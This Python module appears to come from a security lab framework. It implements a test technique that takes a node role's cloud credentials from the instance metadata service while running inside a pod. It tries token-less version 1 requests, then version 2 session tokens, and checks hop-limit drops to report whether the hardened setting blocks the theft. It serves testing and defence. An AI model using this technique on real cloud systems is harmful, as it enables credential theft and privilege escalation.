"""Take the identity of a machine from the metadata that its cloud serves to it.

A cloud tells each of its machines who it is, at an address that needs no credential, and hands out
the keys of the machine's role there. What a machine routes may ask as well: every pod. With version
1, a request is enough. Version 2 wants a session token first, and the answer with the token has a
time to live: with a hop limit of 1 it ends at the machine, before it reaches a pod. The attacker
runs commands in a pod and needs nothing else. The cloud of the lab is a stand-in, and says so.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Foothold, Model
from labkit.model.clouds import cloud_of
from labkit.techniques._lib.machines.cloud import (
    CHANNEL,
    Keys,
    identity,
    role_keys,
    session_token,
)
from labkit.techniques._lib.machines.reach import execution_place, run
from labkit.techniques._lib.technique import (
    POD,
    ROOT_ON_WORKER,
    Prediction,
    Technique,
    holds,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WITHOUT_TOKEN = "HTTP 401"  # noqa: S105 - an answer
#: Packets that a machine drops instead of routing them, most of all because their time to live has
#: ended (net/ipv4/ip_forward.c: IPSTATS_MIB_INHDRERRORS).
DROPPED = "InHdrErrors"
#: Seconds in which a token usually comes, or the packet with it is dropped.
SOON_S = 3.0


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict from the version of the metadata and the hop limit."""
    cloud = cloud_of(model.environment)
    if cloud is None:
        return Prediction(False, ("no machine of the environment serves metadata",))
    return holds(cloud.for_pods, "open")


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask for the role's keys in a pod, without a token and then with one, and use them.

    Raises
    ------
    ProbeTimeout
        No answer came in time, and nothing shows that the machine dropped it.
    ProbeError
        An answer is neither a success nor a known refusal.
    """
    how = "version 1: no token is asked for"
    found = role_keys(lab, foothold)
    if not isinstance(found, Keys):
        if found.refusal != WITHOUT_TOKEN:
            raise ProbeError(f"{TECHNIQUE.name}: {found.refusal} is no known refusal")
        token = _token(lab, foothold)
        if token is None:
            return _refused(lab, foothold)
        how, found = "version 2: the token reaches a pod", role_keys(lab, foothold, token)
    if not isinstance(found, Keys):
        raise ProbeError(f"{TECHNIQUE.name}: no keys with a token: {found.refusal}")
    role = identity(lab, foothold, found).rpartition("/")[0]
    evidence = (
        "the pod has keys of the machine's role",
        f"the cloud, a stand-in, knows their holder as {role}",
    )
    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, how, evidence)


def _token(lab: Lab, foothold: Foothold) -> str | None:
    """Return a session token; None if the machine dropped the answer with it.

    The dropped packet is counted at once, so nobody waits long for an answer that cannot come.
    """
    before = _dropped(lab, foothold)
    try:
        return session_token(lab, foothold, SOON_S)
    except ProbeTimeout:
        if _dropped(lab, foothold) > before:
            return None
    try:
        return session_token(lab, foothold)
    except ProbeTimeout:
        if _dropped(lab, foothold) <= before:
            raise
        return None


def _refused(lab: Lab, foothold: Foothold) -> Verdict:
    keys = role_keys(lab, ROOT_ON_WORKER, session_token(lab, ROOT_ON_WORKER))
    if not isinstance(keys, Keys):
        raise ProbeError(f"root of the machine gets no keys either: {keys.refusal}")
    role = identity(lab, ROOT_ON_WORKER, keys).rpartition("/")[0]
    reason = f"{WITHOUT_TOKEN} without a token, and the answer with one ends at the machine"
    evidence = (
        f"asked without a token: {WITHOUT_TOKEN}",
        "asked for a token: no answer; the machine counts dropped packets",
    )
    control = f"root of the machine gets a token, and keys of {role}"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, evidence, control)


def _dropped(lab: Lab, foothold: Foothold) -> int:
    """Return how many packets the machine of a foothold has dropped instead of routing them.

    Raises
    ------
    ProbeError
        It does not count them.
    """
    node, _, _ = execution_place(lab, foothold)
    lines = run(lab, node, ["cat", "/proc/net/snmp"], check=True).text.splitlines()
    counted = [line.split() for line in lines if line.startswith("Ip:")]
    if len(counted) != 2 or DROPPED not in counted[0]:
        raise ProbeError(f"{node} does not count dropped packets")
    return int(counted[1][counted[0].index(DROPPED)])


def _settings(env: Environment) -> list[Setting]:
    cloud = cloud_of(env)
    if cloud is None:
        return []
    names = ("http-tokens", "http-put-response-hop-limit")
    found = [(name, cloud.component.setting(name)) for name in names]
    return [(name, it.value, str(it.source)) for name, it in found]


TECHNIQUE = Technique(
    name="cloud-metadata-role",
    title="Take the keys of a machine's role from its cloud's metadata",
    footholds=(POD,),
    grants=(),
    about=CHANNEL,
    properties=("client_authentication",),
    attack=("T1552.005", "T1078.004"),
    stride=("information disclosure", "elevation of privilege"),
    cwe=("CWE-306", "CWE-522"),
    sources=(
        "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
        "https://attack.mitre.org/techniques/T1552/005/",
    ),
    predict=predict,
    execute=execute,
    settings=_settings,
    machines=("cloud",),
    modes=("cloud-insecure", "cloud-hardened"),
)
